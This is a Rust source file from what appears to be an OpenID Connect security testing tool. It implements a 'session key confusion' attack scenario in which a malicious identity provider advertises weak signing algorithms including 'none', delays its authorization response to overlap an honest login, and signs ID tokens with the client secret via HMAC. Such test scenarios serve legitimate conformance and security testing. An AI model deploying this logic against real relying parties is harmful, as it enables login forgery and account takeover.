use async_trait::async_trait;
use serde_json::{Value, json};

use crate::actor::errors::ActorError;
use crate::actor::keys;
use crate::actor::types::{ActorRequest, ActorResponse, Endpoint};
use crate::context::keys::{FIRST_AUTH_CLAIMED, HONEST_AUTH_SEEN, SECOND_AUTH_SEEN};
use crate::types::Role;

use super::server::{OpScenario, OpServer};

/// Key confusion through session overwriting: the evil OP registers under
/// the honest client ID and signs its ID token with HMAC under the client
/// secret it handed out. The evil authorization response is held until the
/// browser has started a second login at the honest OP, so the RP may
/// validate the evil token against the honest OP's session.
pub struct SessionKeyConfusionOp;

#[async_trait]
impl OpScenario for SessionKeyConfusionOp {
    async fn intercept(
        &self,
        op: &OpServer,
        endpoint: Endpoint,
        request: &ActorRequest,
    ) -> Result<Option<ActorResponse>, ActorError> {
        let env = op.env();
        match endpoint {
            Endpoint::Discovery => {
                let mut metadata = serde_json::to_value(op.metadata())?;
                metadata["id_token_signing_alg_values_supported"] = json!(["EdDSA", "HS256", "none"]);
                Ok(Some(ActorResponse::ok_json(&metadata)))
            }
            Endpoint::Authorization if op.role() == Role::Evil => {
                if !env.step.insert_if_absent(FIRST_AUTH_CLAIMED, true) {
                    return Ok(None);
                }
                let second = env.step.barrier(SECOND_AUTH_SEEN);
                env.step.barrier(HONEST_AUTH_SEEN).complete(());
                env.logger.log("Holding evil Authentication Response.");
                if let Err(e) = second.wait(env.timeouts.normal).await {
                    env.logger
                        .log_error("Waiting for the honest Authentication Request failed", &e);
                }
                op.authorization(request).map(Some)
            }
            Endpoint::Authorization => {
                env.logger
                    .log("Honest Authentication Request received, releasing evil response.");
                env.step.barrier(SECOND_AUTH_SEEN).complete(());
                Ok(Some(ActorResponse::no_content()))
            }
            _ => Ok(None),
        }
    }

    fn sign_id_token(&self, op: &OpServer, claims: &Value) -> Result<Option<String>, ActorError> {
        let secret = op
            .registered_client()
            .and_then(|client| client.client_secret)
            .filter(|secret| !secret.is_empty());
        let Some(secret) = secret else {
            op.env()
                .logger
                .log("No client secret registered, using the default signature.");
            return Ok(None);
        };
        op.env().logger.log("Signing id_token with the registered client secret.");
        keys::sign_with_secret(&secret, claims).map(Some)
    }
}
